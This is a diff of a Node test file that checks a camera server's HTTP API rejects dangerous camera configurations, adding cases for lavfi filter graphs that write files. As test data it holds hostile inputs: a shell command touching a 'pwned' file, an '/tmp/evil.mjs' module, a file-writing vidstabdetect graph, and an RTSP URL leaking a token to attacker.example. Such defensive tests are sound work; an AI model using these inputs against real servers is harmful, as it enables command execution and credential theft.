@@ -8,7 +8,7 @@
  * the server. Waits are on events or on the figure that proves progress.
  */
 import assert from 'node:assert/strict';
-import { readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
@@ -386,6 +386,18 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
       body: entry([{ id: 'sh', command: ['/bin/sh', '-c', 'touch /tmp/framesupplier-pwned'] }]),
     });
     await expectError(403, 'ERR_HTTP_EXEC_NOT_ALLOWED', 'PUT', `/api/cameras/${OTHER}`, { body: entry([{ id: 'mod', module: '/tmp/evil.mjs' }]) });
+    // A filter graph writes files as the server's user (vidstabdetect's result=), the camera's own or a stream's.
+    const written = join(tmpdir(), `framesupplier-lavfi-${process.pid}.trf`);
+    const graph = `lavfi:testsrc2=size=160x120:rate=5,vidstabdetect=result=${written}`;
+    const lavfi = await expectError(403, 'ERR_HTTP_EXEC_NOT_ALLOWED', 'POST', '/api/cameras/graph1', {
+      body: entry([{ id: 'motion', module: 'builtin:motion' }], graph),
+    });
+    assert.match(lavfi.json!.error!.message, /cameras\.graph1\.source: a lavfi: source/);
+    const sub = await expectError(403, 'ERR_HTTP_EXEC_NOT_ALLOWED', 'POST', '/api/cameras/graph2', {
+      body: { ...entry([{ id: 'motion', module: 'builtin:motion' }]), streams: { sub: { source: graph } } },
+    });
+    assert.match(sub.json!.error!.message, /cameras\.graph2\.streams\.sub: a lavfi: source/);
+    assert.equal(existsSync(written), false, 'no file written');
     const refused = await expectError(403, 'ERR_HTTP_ENV_REFERENCE', 'POST', '/api/cameras/env1', {
       body: entry([{ id: 'motion', module: 'builtin:motion' }], 'rtsp://${FRAMESUPPLIER_HTTP_TOKEN}@attacker.example/s'),
     });
@@ -393,6 +405,7 @@ describe('HTTP control plane', { timeout: 180_000 }, () => {
     assert.ok(!refused.json!.error!.message.includes(TOKEN));
     assert.equal(system.stats().cameras.exec1, undefined);
     assert.equal(system.stats().cameras.env1, undefined);
+    assert.equal(system.stats().cameras.graph1, undefined);
     // Built-in modules, and a literal $${ (escaped), are fine.
     assert.equal((await call('POST', '/api/cameras/lit1', { body: entry([{ id: 'motion', module: 'builtin:motion' }], `${vtest()}`) })).status, 201);
     await call('DELETE', '/api/cameras/lit1');
